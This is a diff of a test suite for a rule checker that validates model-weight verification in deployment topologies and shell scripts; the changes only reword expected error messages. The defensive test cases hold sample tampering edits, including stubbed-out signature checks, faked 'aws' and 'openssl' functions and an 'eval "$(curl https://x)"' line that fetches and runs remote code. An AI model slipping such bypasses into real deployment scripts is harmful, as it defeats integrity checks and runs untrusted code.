@@ -67,7 +67,7 @@ describe(rule.id, () => {
       ['transition: { next: llama31,', 'transition: { next: bare,'],
     ];
     expect(topologyFindings(rule, next, 'examples/transition.yaml')).toMatchObject([
-      { path: 'models.bare.weights', message: expect.stringContaining('desk-fleet serves bare, of which the topology names no weights') },
+      { path: 'models.bare.weights', message: expect.stringContaining('desk-fleet serves bare, whose weights the topology does not name') },
     ]);
     expect(topologyFindings(rule, [], 'examples/transition.yaml')).toEqual([]);
   });
@@ -79,7 +79,7 @@ describe(rule.id, () => {
   it('refuses a self-hosted model without weights', () => {
     const weights = /\n {4}weights:\n( {6}.*\n){6}/.exec(reference())?.[0] ?? '';
     expect(topologyFindings(rule, [[weights, '\n']])).toMatchObject([
-      { severity: 'fatal', path: 'models.llama70.weights', message: expect.stringContaining('names no weights') },
+      { severity: 'fatal', path: 'models.llama70.weights', message: expect.stringContaining('whose weights the topology does not name') },
     ]);
   });
 
@@ -91,7 +91,7 @@ describe(rule.id, () => {
       {
         severity: 'fatal',
         path: 'models.llama70.weights',
-        message: expect.stringContaining('eu-import serves llama70, of which the topology names no weights'),
+        message: expect.stringContaining('eu-import serves llama70, whose weights the topology does not name'),
       },
     ]);
   });
@@ -185,8 +185,8 @@ describe(rule.id, () => {
     ['a result that is ignored', edit('[[ "${valid}" == True ]] ||', 'true ||'), 'does not act on the result'],
     ['no comparison of the manifest', edit('[[ "${actual}" == "${MANIFEST_SHA256}" ]]', 'true'), 'does not compare the manifest'],
     ['no restriction of names', edit('allowed "${name}" ||', 'true ||'), 'does not restrict names'],
-    ['a function in place of another', edit('trap left EXIT\n', 'verify_signature() { true; }\ntrap left EXIT\n'), 'defines `verify_signature` anew'],
-    ['a function in place of the client', edit('trap left EXIT\n', 'aws() { echo True; }\ntrap left EXIT\n'), 'defines `aws` anew'],
+    ['a function in place of another', edit('trap left EXIT\n', 'verify_signature() { true; }\ntrap left EXIT\n'), 'defines `verify_signature` again'],
+    ['a function in place of the client', edit('trap left EXIT\n', 'aws() { echo True; }\ntrap left EXIT\n'), 'defines `aws` again'],
     ['failures passed over', edit('set -Eeuo pipefail', 'set -u'), 'does not stop at a failure'],
     ['a refusal without effect', edit('  exit 1\n', '  return 0\n'), 'does not stop when it refuses'],
     ['text that it runs', edit('trap left EXIT\n', 'eval "$(curl https://x)"\ntrap left EXIT\n'), 'cannot be judged'],
@@ -279,7 +279,7 @@ describe('on Google', () => {
       userData('      close_gate\n      close_container_network', '      close_gate\n      open_gate\n      close_container_network'),
       'too early',
     ],
-    ['a program replaced', userData('      umask 0077\n', '      openssl() { :; }\n      umask 0077\n'), 'defines `openssl` anew'],
+    ['a program replaced', userData('      umask 0077\n', '      openssl() { :; }\n      umask 0077\n'), 'defines `openssl` again'],
     ['vLLM without the gate', userData('      ExecStartPre=/usr/bin/test -e /run/llama-weights-verified\n', ''), 'without the proof'],
     [
       'an environment of the script',
